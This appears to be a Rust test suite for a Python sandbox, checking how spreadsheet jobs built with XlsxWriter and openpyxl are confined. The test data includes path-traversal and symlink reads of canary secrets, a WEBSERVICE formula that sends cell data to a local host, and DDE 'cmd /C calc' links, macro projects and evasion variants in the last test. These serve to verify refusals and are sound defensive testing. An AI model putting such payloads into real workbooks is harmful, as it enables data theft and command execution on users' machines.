        Job::new(format!("{compute}{XLSXWRITER_SAVE}"))
            .src_bytes("source.xlsx", source())
            .expect(&checks())
    };
    let first = run(&exec, job());
    expect_ok(&first);
    let second = run(&exec, job());
    expect_ok(&second);
    let bytes = |o: &Outcome| o.artifacts()[0].bytes.clone();
    assert_eq!(
        bytes(&first),
        bytes(&second),
        "the same code writes the same workbook"
    );
    assert!(dated_1980(&bytes(&first)));
    let parts = workbook_parts(&bytes(&first));
    assert!(
        parts.iter().any(|(n, _)| n == "xl/sharedStrings.xml"),
        "XlsxWriter's shared strings are what the checks read"
    );

    // Written directly, with the cell-name helpers; read back in the sandbox.
    let direct = r#"
import xlsxwriter
from xlsxwriter.utility import xl_rowcol_to_cell, xl_range
wb = xlsxwriter.Workbook('direct.xlsx', {'tmpdir': 'elsewhere', 'in_memory': False})
ws = wb.add_worksheet('Data')
bold = wb.add_format({'bold': True})
ws.write_row(0, 0, ['month', 'amount'], bold)
for i in range(12):
    ws.write_string(i + 1, 0, f'2024-{i + 1:02d}')
    ws.write_number(i + 1, 1, (i + 1) * 1.5)
wb.close()
print(xl_rowcol_to_cell(12, 1), xl_range(1, 1, 12, 1))
print(pd.read_excel('direct.xlsx')['amount'].sum())
"#;
    let o = run(&exec, Job::new(direct));
    expect_ok(&o);
    assert_eq!(o.stdout.trim(), "B13 B2:B13\n117.0", "{}", o.stdout);
    let names: Vec<&str> = o.artifacts().iter().map(|a| a.name.as_str()).collect();
    assert_eq!(names, ["direct.xlsx"], "no staged sheet files");
    next_job_runs(&exec);

    // A one-shot worker (`pyward run` of one file) imports XlsxWriter when its job does,
    // and sets it up then: the same date, no macros.
    let job = Job::new(format!(
        "{direct}\ntry:\n    xlsxwriter.Workbook('m.xlsx').add_vba_project('v.bin')\nexcept PermissionError:\n    print('macros refused')"
    ));
    let o = run_one_shot(job);
    expect_ok(&o);
    assert!(o.stdout.contains("macros refused"), "{}", o.stdout);
    assert!(dated_1980(&o.artifacts()[0].bytes));
}

/// XlsxWriter's reach, tried: macros and a temporary folder of the job's choosing are
/// refused; an image at a host path is read through the job's reads (the host's file is
/// not embedded); a workbook left open does not stop the pool.
#[test]
fn xlsxwriter_writes_no_macros_and_embeds_no_host_file() {
    let host = tempfile::tempdir().unwrap();
    let canary = host.path().join("canary.png");
    // A real PNG whose text chunk is the secret.
    let mut png = Vec::new();
    {
        let mut encoder = png::Encoder::new(&mut png, 1, 1);
        encoder
            .add_text_chunk("Comment".into(), "canary-secret-51c9".into())
            .unwrap();
        let mut writer = encoder.write_header().unwrap();
        writer.write_image_data(&[0]).unwrap();
    }
    std::fs::write(&canary, &png).unwrap();
    let path = canary.to_str().unwrap();

    let exec = executor();
    let code = format!(
        r#"
with pd.ExcelWriter('m.xlsx', engine='xlsxwriter') as w:
    pd.DataFrame({{'a': [1]}}).to_excel(w)
    ws = w.sheets['Sheet1']
    for name, attempt in [('vba', lambda: w.book.add_vba_project('vbaProject.bin')),
                          ('signed', lambda: w.book.add_signed_vba_project('a.bin', 'b.bin')),
                          ('tempdir', lambda: w.book.set_tempdir('.')),
                          ('image', lambda: ws.insert_image(2, 2, {path:?}))]:
        try:
            attempt()
            print(name, 'taken')
        except Exception as e:
            print(name, 'refused', type(e).__name__)
"#
    );
    let o = run(&exec, Job::new(code));
    expect_ok(&o);
    for attempt in ["vba", "signed", "tempdir", "image"] {
        assert!(
            o.stdout.contains(&format!("{attempt} refused")),
            "{attempt}: {}",
            o.stdout
        );
    }
    for artifact in o.artifacts() {
        let parts = workbook_parts(&artifact.bytes);
        assert!(
            parts.iter().all(|(n, data)| !n.contains("vba")
                && !data.windows(18).any(|w| w == b"canary-secret-51c9")),
            "{}",
            artifact.name
        );
    }
    // A workbook never closed: nothing of it is written, and the pool goes on.
    let o = run(
        &exec,
        Job::new("import xlsxwriter\nwb = xlsxwriter.Workbook('open.xlsx')\nwb.add_worksheet().write(0, 0, 1)\nprint('left open')"),
    );
    assert!(o.stdout.contains("left open"), "{:?}", o.result);
    next_job_runs(&exec);
}

/// The workbook readers read the job's files only: a host workbook named by its path,
/// by `..` out of the inputs or out of `/mnt/data`, through every reader a job has, is
/// refused with the gate on and with it off (Landlock), and its secret is never
/// printed; an input that is a symlink to it is refused when the inputs are staged.
#[test]
fn workbook_readers_read_only_the_job_s_files() {
    let host = tempfile::tempdir().unwrap();
    let canary = host_workbook(host.path(), "canary-secret-a83d");
    let absolute = canary.to_str().unwrap().to_string();
    let climbing = format!("{}{}", "../".repeat(12), absolute.trim_start_matches('/'));
    let from_mnt = format!("/mnt/data/{climbing}");
    let readers = [
        "pd.read_excel({p:?})",
        "pd.read_excel({p:?}, engine='openpyxl')",
        "pd.ExcelFile({p:?}).parse(0)",
        "openpyxl.load_workbook({p:?}).active['A2'].value",
        "pd.read_excel(open({p:?}, 'rb'))",
    ];
    let gate_on = executor();
    let gate_off = executor_gate_off();
    for (exec, side) in [(&gate_on, "gate on"), (&gate_off, "gate off")] {
        for path in [&absolute, &climbing, &from_mnt] {
            for reader in readers {
                let read = reader.replace("{p:?}", &format!("{path:?}"));
                let code = format!("import openpyxl\ntry:\n    print({read})\nexcept Exception as e:\n    print('refused', type(e).__name__)\npd.DataFrame().to_csv('n.csv')");
                let o = run(exec, Job::new(code));
                let said = format!("{} {:?}", o.stdout, o.feedback());
                assert!(!said.contains("canary-secret"), "{side}: {read}: {said}");
                assert!(
                    o.result.is_err() || o.stdout.contains("refused"),
                    "{side}: {read}: {said}"
                );
            }
        }
    }
    next_job_runs(&gate_on);

    let inputs = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(&canary, inputs.path().join("source.xlsx")).unwrap();
    let o = gate_on.run(Job::new("print(pd.read_excel('source.xlsx'))").src_dir(inputs.path()));
    let said = match &o {
        Ok(o) => format!("{} {:?}", o.stdout, o.result),
        Err(e) => format!("{e}"),
    };
    assert!(!said.contains("canary-secret"), "{said}");
    assert!(
        o.as_ref().map_or(true, |o| o.result.is_err()),
        "a symlinked input is refused: {said}"
    );
    next_job_runs(&gate_on);
}

/// A summary workbook as model code dresses it with openpyxl: number formats by name,
/// an Excel table, a colour scale, rows shaded by a formula rule, a drop-down list, a
/// bar chart, a frozen header.
const DRESSED_SUMMARY: &str = r#"
import pandas as pd
from openpyxl import load_workbook
from openpyxl.styles import Font, PatternFill, Border, Side, numbers
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.table import Table, TableStyleInfo
from openpyxl.formatting.rule import ColorScaleRule, CellIsRule, FormulaRule
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.chart import BarChart, Reference

df = pd.read_excel('/mnt/data/source.xlsx', sheet_name='Departments')
summary = df.groupby('dept_name', as_index=False)['revenue'].sum()
out = '/mnt/data/summary.xlsx'
summary.to_excel(out, index=False, sheet_name='Summary')
wb = load_workbook(out)
ws = wb['Summary']
for c in ws[1]:
    c.font = Font(bold=True, color='FFFFFF')
    c.fill = PatternFill('solid', fgColor='4F81BD')
    c.border = Border(bottom=Side(style='thin'))
for (c,) in ws.iter_rows(min_row=2, min_col=2, max_col=2):
    c.number_format = numbers.FORMAT_NUMBER_COMMA_SEPARATED1
table = Table(displayName='Revenue', ref=f'A1:B{ws.max_row}')
table.tableStyleInfo = TableStyleInfo(name='TableStyleMedium9', showRowStripes=True)
ws.add_table(table)
ws.conditional_formatting.add(f'B2:B{ws.max_row}', ColorScaleRule(start_type='min', start_color='F8696B', end_type='max', end_color='63BE7B'))
ws.conditional_formatting.add(f'B2:B{ws.max_row}', CellIsRule(operator='lessThan', formula=['1000000'], font=Font(color='9C0006')))
ws.conditional_formatting.add(f'A2:B{ws.max_row}', FormulaRule(formula=['$B2>2000000'], fill=PatternFill('solid', fgColor='F8CBAD')))
ws['C1'] = 'status'
status = DataValidation(type='list', formula1='"open,closed"', allow_blank=True)
ws.add_data_validation(status)
status.add(f'C2:C{ws.max_row}')
chart = BarChart()
chart.add_data(Reference(ws, min_col=2, min_row=1, max_row=ws.max_row), titles_from_data=True)
chart.set_categories(Reference(ws, min_col=1, min_row=2, max_row=ws.max_row))
ws.add_chart(chart, 'D2')
ws.column_dimensions[get_column_letter(1)].width = 18
ws.freeze_panes = 'A2'
wb.save(out)
"#;

#[test]
fn openpyxl_tables_charts_and_conditional_formats_as_models_write_them() {
    let exec = executor();
    let checks = Expectations::from_toml(
        r#"
version = 1
artifacts = ["summary.xlsx"]
[[tables]]
artifact = "summary.xlsx"
required_columns = ["dept_name", "revenue"]
row_count = 8
"#,
    )
    .unwrap();
    let o = run(
        &exec,
        Job::new(DRESSED_SUMMARY)
            .src_bytes("source.xlsx", source())
            .expect(&checks),
    );
    expect_ok(&o);
    let parts = workbook_parts(&o.artifacts()[0].bytes);
    for part in [
        "xl/charts/chart1.xml",
        "xl/tables/table1.xml",
        "xl/worksheets/sheet1.xml",
    ] {
        assert!(parts.iter().any(|(n, _)| n == part), "{part}");
    }
    let sheet = &parts
        .iter()
        .find(|(n, _)| n == "xl/worksheets/sheet1.xml")
        .unwrap()
        .1;
    let sheet = String::from_utf8_lossy(sheet);
    for dressing in [
        "colorScale",
        "cellIs",
        r#"type="expression""#,
        "dataValidation",
    ] {
        assert!(sheet.contains(dressing), "{dressing}: {sheet}");
    }

    // Beside them, what stays out of reach: openpyxl's XML functions, the chart reader,
    // the workbook reader, and the worksheet module's names besides its class.
    for (code, denied) in [
        ("from openpyxl.xml.functions import fromstring", "xml"),
        ("from openpyxl.chart import reader", "reader"),
        ("from openpyxl.reader.excel import ExcelReader", "reader"),
        ("from openpyxl.worksheet.worksheet import Cell", "Cell"),
    ] {
        let o = run(&exec, Job::new(code));
        let feedback = o.feedback().unwrap_or_default();
        assert!(
            matches!(o.result, Err(JobFailure::Rejected { .. })) && feedback.contains(denied),
            "{code}: {feedback}"
        );
    }
    next_job_runs(&exec);
}

/// A report workbook with the job's own chart in it: the figure saved by name is read
/// back from memory (where the worker keeps it for the host to encode), by openpyxl's
/// `Image`, XlsxWriter's `insert_image` and the job's own `open`. A picture from a host
/// path is refused.
#[test]
fn a_workbook_takes_the_job_s_own_chart_and_no_host_picture() {
    let code = r#"
import pandas as pd
from openpyxl import load_workbook
from openpyxl.drawing.image import Image

df = pd.read_excel('source.xlsx')
df.plot(x='dept_name', y='revenue', kind='bar')
plt.savefig('chart.png', dpi=60)
with open('/mnt/data/chart.png', 'rb') as f:
    print('magic', f.read(8) == b'\x89PNG\r\n\x1a\n')
df.to_excel('openpyxl.xlsx', index=False)
wb = load_workbook('openpyxl.xlsx')
wb.active.add_image(Image('chart.png'), 'H2')
wb.save('openpyxl.xlsx')
with pd.ExcelWriter('xlsxwriter.xlsx', engine='xlsxwriter') as writer:
    df.to_excel(writer, index=False)
    writer.sheets['Sheet1'].insert_image('H2', 'chart.png')
"#;
    let exec = executor();
    let o = run(&exec, Job::new(code).src_bytes("source.xlsx", source()));
    expect_ok(&o);
    assert!(o.stdout.contains("magic True"), "{}", o.stdout);
    for name in ["openpyxl.xlsx", "xlsxwriter.xlsx"] {
        let book = o.artifacts().iter().find(|a| a.name == name).unwrap();
        let parts = workbook_parts(&book.bytes);
        let (_, picture) = parts
            .iter()
            .find(|(n, _)| n.starts_with("xl/media/"))
            .unwrap_or_else(|| panic!("{name} has a picture"));
        let decoded = png::Decoder::new(Cursor::new(picture.as_slice()))
            .read_info()
            .expect("a PNG");
        assert!(decoded.info().width > 100, "{name}");
    }

    let host = tempfile::tempdir().unwrap();
    let canary = host.path().join("canary.png");
    std::fs::write(&canary, b"\x89PNG\r\n\x1a\ncanary-secret-e21f").unwrap();
    let code = format!(
        "from openpyxl.drawing.image import Image\ntry:\n    Image({:?})\nexcept Exception as e:\n    print('refused', type(e).__name__)\npd.DataFrame().to_csv('n.csv')",
        canary.to_str().unwrap()
    );
    let o = run(&exec, Job::new(code));
    assert!(
        o.stdout.contains("refused PermissionError"),
        "{:?} {}",
        o.result,
        o.stdout
    );
    assert!(!o.stdout.contains("canary-secret"));
    next_job_runs(&exec);
}

/// A one-shot worker (`pyward run` of one file) whose job names no `pd`: openpyxl is
/// loaded by the job, set up then (its MIME tables read at warm-up, before the sandbox
/// closes the system's files), and an input workbook is edited into a new one with the
/// same 1980 date as a pool's.
#[test]
fn a_one_shot_job_edits_an_input_workbook_with_openpyxl() {
    let job = Job::new(
        "import openpyxl\nwb = openpyxl.load_workbook('source.xlsx')\nwb.active['A1'] = 'id'\nwb.save('copy.xlsx')",
    )
    .src_bytes("source.xlsx", source());
    let o = run_one_shot(job);
    expect_ok(&o);
    assert!(dated_1980(&o.artifacts()[0].bytes));
}

/// `pd.ExcelWriter(input, mode='a')` adds a sheet as on a desktop: the artifact is the
/// input's workbook with the new sheet; the input itself is never modified (hash before
/// and after). Chart labels, trend lines, cell notes and the style classes where openpyxl
/// defines them are reviewed members.
#[test]
fn a_sheet_appended_to_an_input_workbook_is_an_artifact_and_the_input_is_untouched() {
    let exec = executor();
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("source.xlsx"), source()).unwrap();
    let hash = || Sha256::digest(std::fs::read(dir.path().join("source.xlsx")).unwrap());
    let before = hash();
    let code = r#"
import openpyxl
from openpyxl.chart import BarChart, Reference
from openpyxl.chart.label import DataLabelList
from openpyxl.chart.trendline import Trendline
from openpyxl.comments import Comment
from openpyxl.styles.borders import Border, Side
df = pd.read_excel("source.xlsx", sheet_name="Departments")
summary = df[["dept_id", "revenue"]].head(3)
with pd.ExcelWriter("source.xlsx", engine="openpyxl", mode="a", if_sheet_exists="replace") as writer:
    summary.to_excel(writer, sheet_name="Summary", index=False)
    ws = writer.sheets["Summary"]
    ws["A1"].comment = Comment("from Departments", "model")
    ws["A1"].border = Border(bottom=Side(style="thin"))
    chart = BarChart()
    chart.add_data(Reference(ws, min_col=2, min_row=1, max_row=4), titles_from_data=True)
    chart.series[0].dLbls = DataLabelList(showVal=True)
    chart.series[0].trendline = Trendline(trendlineType="linear")
    ws.add_chart(chart, "D2")
print(openpyxl.load_workbook("source.xlsx").sheetnames)
"#;
    let o = run(&exec, Job::new(code).src_dir(dir.path()));
    expect_ok(&o);
    assert_eq!(o.stdout, "['Departments', 'Summary']\n");
    let out = o
        .artifact("source.xlsx")
        .expect("the workbook with its new sheet");
    let book: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(out.bytes.clone())).unwrap();
    use calamine::Reader;
    assert_eq!(book.sheet_names(), ["Departments", "Summary"]);
    assert_eq!(hash(), before, "the input was modified");
    next_job_runs(&exec);
}

/// What a spreadsheet program runs or fetches outside the cells, written three ways:
/// by XlsxWriter (a defined name, a conditional format's rule, a drop-down list that
/// call out), by openpyxl (a formula rule), and as the bytes of a workbook carrying a
/// macro project and a DDE link, written whole by the job (the host never trusts what
/// a worker's libraries wrote). `no_formulas` refuses each, naming it, gate on and
/// off. The same features as model code writes them (a banded rule, a list of
/// values, print titles, an autofilter, a named constant, data bars) pass.
#[test]
fn formulas_outside_the_cells_that_call_out_are_refused() {
    let checks = Expectations::from_toml(
        "version = 1\nartifacts = [\"result.xlsx\"]\n[[tables]]\nartifact = \"result.xlsx\"\n",
    )
    .unwrap();
    let xlsxwriter = r#"
import xlsxwriter
wb = xlsxwriter.Workbook('result.xlsx')
ws = wb.add_worksheet('Data')
ws.write_row(0, 0, ['dept', 'amount'])
ws.write_row(1, 0, ['hq', 2])
wb.define_name('Leak', '=WEBSERVICE("http://127.0.0.1:9/?"&Data!$B$2)')
ws.conditional_format('A2:B2', {'type': 'formula', 'criteria': "=cmd|' /C calc'!A0", 'format': wb.add_format({'bold': True})})
ws.data_validation('A2', {'validate': 'list', 'source': '=HYPERLINK("http://127.0.0.1:9/x")'})
wb.close()
"#;
    let openpyxl = r#"
from openpyxl import load_workbook
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import PatternFill
pd.DataFrame({'dept': ['hq'], 'amount': [2]}).to_excel('result.xlsx', index=False)
wb = load_workbook('result.xlsx')
wb.active.conditional_formatting.add('A2:B2', FormulaRule(formula=['_xlfn.IMAGE("http://127.0.0.1:9/"&$A2)<>""'], fill=PatternFill('solid', fgColor='FF0000')))
wb.save('result.xlsx')
"#;
    let sheet = sheet_with(
        "",
        r#"<row r="1"><c r="A1" t="inlineStr"><is><t>amount</t></is></c></row><row r="2"><c r="A2"><v>2</v></c></row>"#,
    );
    let bytes = raw_workbook(
        &sheet,
        &[
            ("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 Auto_Open"),
            ("xl/externalLinks/externalLink1.xml", br#"<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>"#),
        ],
    );
    let written = |bytes: &[u8]| {
        let hex: String = bytes.iter().map(|b| format!("{b:02x}")).collect();
        format!("open('result.xlsx', 'wb').write(bytes.fromhex('{hex}'))\n")
    };
    let whole = written(&bytes);
    // What outside review tried next: the main part moved (a spreadsheet program opens
    // the workbook `_rels/.rels` names, not the decoy at xl/workbook.xml), a DDE link
    // in a folder of its own (judged by its relationship and content type), and a
    // call behind a sheet name holding a double quote.
    let moved = written(&raw_workbook(
        &sheet,
        &[("_rels/.rels", br#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="/xl/book.xml"/></Relationships>"#)],
    ));
    let linked = written(&raw_workbook(
        &sheet,
        &[
            ("xl/_rels/workbook.xml.rels", br#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="links/link1.xml"/></Relationships>"#),
            ("xl/links/link1.xml", br#"<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>"#),
        ],
    ));
    let quoted = written(&raw_workbook(
        format!(
            r#"<?xml version="1.0"?>{SHEET_HEAD}<row r="1"><c r="A1"><v>1</v></c></row></sheetData><conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>'a"b'!$A$1&amp;LEN(WEBSERVICE("http://127.0.0.1:9/"))&gt;0</formula></cfRule></conditionalFormatting></worksheet>"#
        )
        .as_bytes(),
        &[],
    ));
    let cases: [(&str, &[&str]); 6] = [
        (
            xlsxwriter,
            &[
                "the defined name Leak holds the function WEBSERVICE",
                "result.xlsx!Data: the conditional format on A2:B2 holds a DDE call",
                "result.xlsx!Data: the data validation on A2 holds the function HYPERLINK",
            ],
        ),
        (
            openpyxl,
            &["result.xlsx!Sheet1: the conditional format on A2:B2 holds the function IMAGE"],
        ),
        (
            &whole,
            &[
                "result.xlsx holds xl/vbaProject.bin, a macro project",
                "result.xlsx holds xl/externalLinks/externalLink1.xml, a link to another workbook or a DDE server",
            ],
        ),
        (&moved, &[r#"its main part is "/xl/book.xml", not xl/workbook.xml"#]),
        (
            &linked,
            &["xl/_rels/workbook.xml.rels brings in a link to another workbook or a DDE server (links/link1.xml)"],
        ),
        (&quoted, &["the conditional format on A1 holds the function WEBSERVICE"]),
    ];
    for exec in [executor(), executor_gate_off()] {
        for (code, wants) in cases {
            let o = run(&exec, Job::new(code).expect(&checks));
            let JobFailure::InvalidOutput { check, detail } = failure(&o) else {
                panic!("{:?}", o.result)
            };
            assert_eq!(check, "table:result.xlsx");
            for want in wants {
                assert!(detail.contains(want), "{want:?} not in:\n{detail}");
            }
        }
        next_job_runs(&exec);
    }
    let dressed = r#"
import xlsxwriter
wb = xlsxwriter.Workbook('result.xlsx')
ws = wb.add_worksheet('Data')
ws.write_row(0, 0, ['dept', 'amount', 'status'])
for r, (d, a) in enumerate([('hq', 2), ('sales', -1), ('r&d', 5)], start=1):
    ws.write_row(r, 0, [d, a, 'open'])
wb.define_name('Rate', '=0.96')
ws.repeat_rows(0)
ws.autofilter('A1:C4')
ws.conditional_format('A2:C4', {'type': 'formula', 'criteria': '=MOD(ROW(),2)=0', 'format': wb.add_format({'bg_color': '#EEEEEE'})})
ws.conditional_format('B2:B4', {'type': 'formula', 'criteria': '=AND($B2<0,ISNUMBER($B2))', 'format': wb.add_format({'font_color': 'red'})})
ws.conditional_format('B2:B4', {'type': 'data_bar'})
ws.data_validation('C2:C4', {'validate': 'list', 'source': ['open', 'closed']})
wb.close()
"#;
    let o = run(&executor(), Job::new(dressed).expect(&checks));
    expect_ok(&o);
    let parts = workbook_parts(&o.artifacts()[0].bytes);
    let workbook = &parts
        .iter()
        .find(|(n, _)| n == "xl/workbook.xml")
        .unwrap()
        .1;
    let workbook = String::from_utf8_lossy(workbook);
    for name in ["Rate", "_xlnm.Print_Titles", "_xlnm._FilterDatabase"] {
        assert!(workbook.contains(name), "{name} written: {workbook}");
    }
}
